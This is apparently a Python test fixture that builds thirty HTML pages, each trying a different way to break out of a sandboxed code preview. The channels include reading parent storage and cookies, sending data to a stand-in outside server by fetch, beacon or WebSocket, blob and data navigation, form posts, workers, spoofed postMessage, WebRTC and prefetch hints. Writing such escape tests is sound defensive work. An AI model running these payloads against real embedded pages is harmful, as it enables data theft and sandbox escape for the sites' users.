"""Thirty pages that try to get out of the preview. Each says "tried"; one that sees what it should not says "ESCAPED".

{api} is the playground's own origin, {sink} a server elsewhere, {udp} an address of that machine that hears datagrams. Whatever they
ask for is named `stolen`, so that it is known where it arrives.
"""

import json

WRONG = "(what) => console.log('ESCAPED: ' + what)"
TRY = "const out = " + WRONG + "; const quiet = (f) => { try { f() } catch (e) { console.log('held: ' + e.name) } };"

SCRIPTS = {
    "parent document": "quiet(() => out(parent.document.body.innerHTML.length))",
    "storage of the top": "quiet(() => out(top.localStorage.secret)); quiet(() => out(top.sessionStorage.secret))",
    "frames by number": "quiet(() => out(top[0].parent.document.title)); quiet(() => { parent.pwned = 1 })",
    "cookies": "quiet(() => document.cookie.includes('secret') && out(document.cookie))",
    "storage": "quiet(() => localStorage.secret && out('local')); quiet(() => sessionStorage.secret && out('session'))",
    "databases": "quiet(() => indexedDB.databases?.().then((all) => all.length && out('databases'), () => {}))",
    "fetch the API": "for (const mode of ['cors', 'no-cors']) fetch('{api}/playground/info?stolen', {mode}).then(() => out('api'), () => {})",
    "fetch elsewhere": "for (const mode of ['cors', 'no-cors']) fetch('{sink}/stolen', {mode}).then(() => out('net'), () => {})",
    "XMLHttpRequest": "quiet(() => { const x = new XMLHttpRequest(); x.open('POST', '{api}/v1/completions?stolen', false); x.send('{}'); out('xhr') })",
    "beacon": "quiet(() => navigator.sendBeacon('{sink}/stolen', 'x')); quiet(() => fetch('{sink}/stolen', {keepalive: true, method: 'POST'}).catch(() => {}))",
    "WebSocket": "quiet(() => { new WebSocket('{sink}/stolen'.replace('http', 'ws')).onopen = () => out('socket') })",
    "EventSource": "quiet(() => { new EventSource('{api}/playground/info?stolen').onopen = () => out('events') })",
    "WebTransport": "quiet(() => new WebTransport('{sink}/stolen'.replace('http:', 'https:')).ready.then(() => out('transport'), () => {}))",
    "pictures": "new Image().src = '{sink}/stolen'; document.body.style.background = 'url({sink}/stolen)'; document.body.insertAdjacentHTML('beforeend', '<svg><image href={sink}/stolen /></svg><video src={sink}/stolen></video><video poster={sink}/stolen></video>')",
    "scripts": "const s = document.createElement('script'); s.src = '{sink}/stolen'; document.body.append(s); import('{sink}/stolen').catch(() => {})",
    "styles": "document.body.insertAdjacentHTML('beforeend', '<link rel=stylesheet href={sink}/stolen><style>@import \"{sink}/stolen\"; @font-face { font-family: f; src: url({sink}/stolen) } body { font-family: f }</style>')",
    "frames": "document.body.insertAdjacentHTML('beforeend', '<iframe src={api}/playground/?stolen></iframe><object data={sink}/stolen></object><embed src={sink}/stolen>')",
    "srcdoc": "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>fetch(`{sink}/stolen`);top.location=`{sink}/stolen`</script>\"></iframe>')",
    "blank frame": "quiet(() => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch('{sink}/stolen').then(() => out('blank'), () => {}) })",
    "blob frame": "location = URL.createObjectURL(new Blob(['<script>fetch(`{sink}/stolen`);new Image().src=`{sink}/stolen`</script>'], {type: 'text/html'}))",
    "data page": "quiet(() => { location = 'data:text/html,<script>fetch(`{sink}/stolen`);new Image().src=`{sink}/stolen`</script>' })",
    "top navigation": "quiet(() => { top.location = '{sink}/stolen' }); quiet(() => top.location.replace('javascript:pwned=1')); quiet(() => window.open('{sink}/stolen', '_top'))",
    "own navigation": "location = '{sink}/stolen'",
    "meta refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url={sink}/stolen\">')",
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href={sink}/ target=_top>'); document.body.insertAdjacentHTML('beforeend', '<a href=stolen>x</a><img src=stolen>'); document.querySelector('a').click()",
    "popups": "quiet(() => window.open('{sink}/stolen') && out('popup')); const a = document.createElement('a'); a.href = '{sink}/stolen'; a.target = '_blank'; document.body.append(a); a.click()",
    "forms": "for (const [to, where] of [['{api}/v1/completions?stolen', '_self'], ['{sink}/stolen', '_top'], ['{sink}/stolen', '_blank']]) { const f = document.createElement('form'); f.action = to; f.method = 'post'; f.target = where; document.body.append(f); f.submit() }",
    "workers": "quiet(() => new Worker(URL.createObjectURL(new Blob(['fetch(`{sink}/stolen`)'])))); quiet(() => new SharedWorker('data:text/javascript,fetch(`{sink}/stolen`)')); quiet(() => navigator.serviceWorker.register('sw.js').then(() => out('service worker'), () => {}))",
    "spoofed messages": "for (const line of [1, -1, 1e300, {}, '<b>']) parent.postMessage({mezzotint: {kind: 'error', text: '<img src={sink}/stolen onerror=pwned=1>', line}}, '*'); parent.postMessage({mezzotint: {kind: '__proto__', text: 'x'}}, '*'); parent.postMessage(null, '*')",
    "WebRTC": "const look = (w) => quiet(() => { const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }); look(window); const f = document.createElement('iframe'); document.body.append(f); quiet(() => look(f.contentWindow)); quiet(() => look(window[0]))",
    "hints": "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest']) { const l = document.createElement('link'); l.rel = rel; l.href = '{sink}/stolen'; if (rel === 'preload') l.as = 'image'; document.head.append(l) } const r = document.createElement('script'); r.type = 'speculationrules'; r.textContent = '{\"prefetch\":[{\"urls\":[\"{sink}/stolen\"]}]}'; document.head.append(r)",
    "the user": "quiet(() => { alert(1); out('alert') }); quiet(() => print()); quiet(() => navigator.clipboard.readText().then(() => out('clipboard'), () => {})); quiet(() => navigator.geolocation.getCurrentPosition(() => out('place'))); const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'stolen'; a.click()",
}  # fmt: skip
assert len(SCRIPTS) >= 30


def page(name, api, sink, udp):
    """The whole page of one attempt."""
    script = SCRIPTS[name].replace("{api}", api).replace("{sink}", sink).replace("{udp}", udp)
    script = script.replace("</script>", "<\\/script>")
    return (
        f"<!doctype html>\n<title>{name}</title>\n<body>\n<script>\n{TRY}\nconsole.log('tried');\n"
        f"console.log({json.dumps(name)});\n{script}\n</script>\n</body>\n"
    )
